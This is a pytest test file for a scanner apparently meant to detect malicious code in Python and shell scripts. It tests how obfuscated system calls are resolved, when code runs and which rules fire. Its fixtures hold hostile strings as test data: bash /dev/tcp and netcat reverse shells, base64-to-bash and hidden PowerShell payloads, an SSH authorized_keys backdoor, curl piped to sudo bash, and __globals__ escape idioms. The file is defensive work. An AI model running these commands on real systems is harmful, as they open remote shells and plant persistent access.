"""What source does, when, and what of it is told."""

from __future__ import annotations

import ast

import pytest
from hypothesis import given
from hypothesis import settings as rounds
from hypothesis import strategies as st

from poisonscan.detectors.models.script_acts import Weight, acts
from poisonscan.detectors.models.script_code import DETECTOR
from poisonscan.detectors.models.script_moments import Moment
from poisonscan.detectors.models.script_names import Names
from poisonscan.finding import Span
from poisonscan.formats.base import Script
from poisonscan.formats.scripts import PythonSource, ShellSource, Unparsed, parse
from poisonscan.limits import Budget
from poisonscan.sources.base import Blob


def found(text: str, role: str = "module", language: str = "python") -> list[str]:
    return [f.rule.id for f in DETECTOR.check(Script("x.py", language, text, role))]


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("import os.path\nos.system('x')", "os.system"),
        ("from os import system as s\ns('x')", "os.system"),
        ("s = __import__('os').system\ns('x')", "os.system"),
        ("import importlib as i\ni.import_module('subprocess').run('x')", "subprocess.run"),
        ("getattr(__import__('o' + 's'), ''.join(['sys', 'tem']))('x')", "os.system"),
        ("import os\nvars(os)['system']('x')", "os.system"),
        ("import os\nos.__dict__['system']('x')", "os.system"),
        ("import sys\nsys.modules['os'].popen('x')", "os.popen"),
        ("import torch\ntorch.os.system('x')", "os.system"),
        ("import os\nf'{os.system(1)}'", "os.system"),
        ("(lambda: __import__('os').system('x'))()", "os.system"),
        ("import os\n[os.system(x) for x in 'ab']", "os.system"),
        ("from functools import partial\nimport os\npartial(os.system, 'x')()", "os.system"),
        ("__builtins__['exec'](open('x').read())", "builtins.exec"),
        ("for c in x: c.__init__.__globals__['sys']", "__init__.__globals__"),
        ("f = g(c)\nb = f.__globals__['__builtins__']", "__builtins__"),
    ],
)
def test_names_are_seen_through(source: str, name: str) -> None:
    assert name in {act.name for act in acts(ast.parse(source)) if act.weight > Weight.MILD}


@pytest.mark.parametrize(
    ("source", "moment"),
    [
        ("{}", Moment.IMPORT),
        ("class X:\n  y = {}", Moment.IMPORT),
        ("def f(a={}): pass", Moment.IMPORT),
        ("@f({})\ndef g(): pass", Moment.IMPORT),
        ("def f():\n  {}\nf()", Moment.IMPORT),
        ("def f():\n  {}\ndef g(): f()\ng()", Moment.IMPORT),
        ("class X:\n  def __init__(self): {}\nX()", Moment.IMPORT),
        ("def f(): {}\nrun(f)", Moment.IMPORT),
        ("try:\n  import x\nexcept ImportError:\n  {}", Moment.IMPORT),
        ("class X:\n  def __init__(self): {}", Moment.USE),
        ("class X:\n  def forward(self): self.g()\n  def g(self): {}", Moment.USE),
        ("class X:\n  def other(self): {}", Moment.ASKED),
        ("def f(): {}", Moment.ASKED),
        ("if __name__ == '__main__':\n  {}", Moment.ASKED),
        ("if __name__ != '__main__':\n  {}", Moment.IMPORT),
        ("if __name__ == '__main__':\n  pass\nelse:\n  {}", Moment.IMPORT),
    ],
)
def test_when_code_runs(source: str, moment: Moment) -> None:
    text = "import os\n" + source.format("os.system('true')")
    assert {act.moment for act in acts(ast.parse(text)) if act.name == "os.system"} == {moment}


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nx = base64.b64decode('eA==')",
        "model.eval()",
        "import re\nre.compile('x')",
        "exec('x = 1')",
        "builtin = globals()['__builtins__']",
        "del kept['__builtins__']\nkept['__builtins__'] = {}",
        "def f(g): return g.__globals__['x'], g.__init__, type.__subclasses__(g)",
        "import subprocess\ntry: pass\nexcept subprocess.CalledProcessError: pass",
        "import os\nos.path.join(os.environ['HOME'], 'x')",
        "def system(x): return x\nsystem('x')",
        "import requests, os\ndef f(): return requests.get(u, headers={'a': os.environ['T']})",
        "a = b\nb = a\na('x')",
        "import socket\nprint(socket.gethostname())",
    ],
)
def test_ordinary_code_is_quiet(source: str) -> None:
    assert found(source) == []


@pytest.mark.parametrize(
    ("source", "role", "rules"),
    [
        ("import os\nos.system('x')", "module", ["PS111"]),
        ("import os\nos.system('x')", "setup", []),
        ("import os\nos.system('x')", "notebook", []),
        ("import os\ndef f(): os.system('x')", "module", ["PS112"]),
        ("import os\ndef handle(x): os.system('x')", "handler", ["PS111"]),
        ("import base64\ndef f(): exec(base64.b64decode('x'))", "notebook", ["PS111"]),
        ("import pickle\npickle.load(open('x', 'rb'))", "module", ["PS112"]),
        ("x = (", "module", []),
    ],
)
def test_what_is_told_depends_on_who_runs_it(source: str, role: str, rules: list[str]) -> None:
    assert found(source, role) == rules


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", ["PS111"]),
        ("nc 192.0.2.1 9 -e /bin/sh", ["PS111"]),
        ("echo x | base64 --decode | bash", ["PS111"]),
        ("powershell -w hidden -enc " + "A" * 40, ["PS111"]),
        ("echo key >> ~/.ssh/authorized_keys", ["PS111"]),
        ("curl -fsSL https://example.org/x.sh | sudo bash", ["PS112"]),
        ("wget https://example.org/x.bin && python train.py | tee log", []),
        ("pip install -r requirements.txt", []),
    ],
)
def test_shell_scripts(text: str, rules: list[str]) -> None:
    assert found(text, "program", "shell") == rules


def test_source_that_multiplies_itself_costs_little() -> None:
    lines = ["v0 = 'x' + 'y'"] + [f"v{n} = v{n - 1} + v{n - 1}" for n in range(1, 200)]
    tree = ast.parse("\n".join(lines))
    names = Names.of(tree)
    assert names.constant(ast.parse("v199", mode="eval").body) is None
    circle = "\n".join(f"a{n} = a{(n + k) % 50}" for n in range(50) for k in range(1, 9))
    assert not list(acts(ast.parse(circle + "\na0('x')")))


@given(st.text("abos.()=\n 'exec_:[]+,def class", max_size=120))
@rounds(max_examples=300)
def test_any_source_is_read(text: str) -> None:
    tree = parse(text)
    if not isinstance(tree, Unparsed):
        list(acts(tree))
    found(text)


@pytest.mark.parametrize(
    "before",
    [
        "a = '\x0b\x0c\x1c\x1d\x1e\x85\u2028'\n".encode(),
        b"\xef\xbb\xbfa = 1\r\n",
        b"# coding: latin-1\na = '\xe9'\r",
    ],
)
@pytest.mark.parametrize("name", ["x.py", "x.sh"])
def test_a_finding_is_placed_in_the_bytes_of_the_file(before: bytes, name: str) -> None:
    acts_ = {
        "x.py": b"import os; os.system('x')\n",
        "x.sh": b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n",
    }
    data = before + acts_[name]
    blob = Blob(name, len(data), lambda: memoryview(data), file=name)
    format_ = PythonSource() if name == "x.py" else ShellSource()
    (script,) = format_.open(blob, blob.open(), Budget())
    assert isinstance(script, Script)
    (finding,) = DETECTOR.check(script)
    assert isinstance(finding.at.part, Span)
    assert data[finding.at.part.offset :].startswith((acts_[name][:6], b"/dev/tcp"))
